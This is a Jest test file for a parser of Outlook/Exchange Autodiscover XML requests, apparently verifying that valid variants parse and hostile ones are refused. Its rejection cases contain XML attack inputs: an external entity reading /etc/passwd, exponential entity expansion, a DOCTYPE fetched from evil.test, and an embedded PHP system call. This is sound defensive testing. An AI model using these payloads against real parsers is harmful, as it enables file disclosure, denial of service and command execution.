import { readAutodiscoverRequest } from './autodiscover-request';

const outlook = (inside: string, prologue = '<?xml version="1.0" encoding="utf-8"?>'): string =>
  `${prologue}<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request>${inside}</Request></Autodiscover>`;
const address = '<EMailAddress>anna@acme.test</EMailAddress>';
const schema = '<AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema>';

describe('readAutodiscoverRequest', () => {
  it.each([
    ['as Outlook sends it', outlook(address + schema)],
    ['over several lines', outlook(`\n  <EMailAddress>\n anna@acme.test\n</EMailAddress>\n${schema}`)],
    ['with prefixes, comments and a byte order mark', `\uFEFF${outlook(address + schema).replace(/<(\/?)(\w+)/g, '<$1a:$2').replace('<a:Request>', '<a:Request><!-- who -->')}`],
    ['with its characters written as numbers', outlook(`<EMailAddress>ann&#97;&#x40;acme.test</EMailAddress>${schema}`)],
    ['in the other order', outlook(schema + address)],
  ])('reads one %s', (_how, body) => {
    expect(readAutodiscoverRequest(body)).toEqual({ address: 'anna@acme.test', schema: 'http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a' });
  });

  it('goes without a schema', () => expect(readAutodiscoverRequest(outlook(address))).toEqual({ address: 'anna@acme.test', schema: null }));

  it.each([
    ['nothing', ''],
    ['JSON', '{"EMailAddress":"anna@acme.test"}'],
    ['another document', '<Request><EMailAddress>anna@acme.test</EMailAddress></Request>'],
    ['no address', outlook(schema)],
    ['an empty one', outlook('<EMailAddress> </EMailAddress>')],
    ['two addresses', outlook(address + address)],
    ['elements in the address', outlook('<EMailAddress><b>anna@acme.test</b></EMailAddress>')],
    ['an external entity', outlook('<EMailAddress>&file;</EMailAddress>', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY file SYSTEM "file:///etc/passwd">]>')],
    ['entities that grow', outlook('<EMailAddress>&c;</EMailAddress>', '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>')],
    ['a document type that is fetched', outlook(address, '<!DOCTYPE a SYSTEM "http://evil.test/a.dtd">')],
    ['an entity that nobody declared', outlook('<EMailAddress>&file;anna@acme.test</EMailAddress>')],
    ['marked text', outlook('<EMailAddress><![CDATA[anna@acme.test]]></EMailAddress>')],
    ['instructions', outlook(`<?php system("id") ?>${address}`)],
    ['a character that there is not', outlook('<EMailAddress>anna&#xD800;@acme.test</EMailAddress>')],
  ])('refuses %s', (_what, body) => expect(readAutodiscoverRequest(body)).toBeNull());

  it('is done in no time with what was made to take long', () => {
    const started = performance.now();
    for (const piece of ['<!--', '<EMailAddress ', '<a:', '&#', '<EMailAddress>a']) readAutodiscoverRequest(outlook(piece.repeat(Math.floor(8_000 / piece.length))));
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
